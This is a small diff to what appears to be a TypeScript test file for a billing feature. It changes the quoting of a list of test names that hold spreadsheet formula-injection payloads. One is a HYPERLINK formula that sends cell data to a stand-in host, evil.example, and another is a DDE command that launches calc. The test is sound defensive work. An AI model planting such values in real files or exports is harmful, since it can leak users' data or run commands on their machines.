@@ -9,7 +9,7 @@ import { addServers, clockTo, payer, runCharges, utcUs } from '../support/billin
  */
 let app: TestApp
 let owner: Member
-const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', 'plain rig']
+const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', 'plain rig']
 
 beforeAll(async () => {
   app = await startTestApp({ LOG_LEVEL: 'silent' })
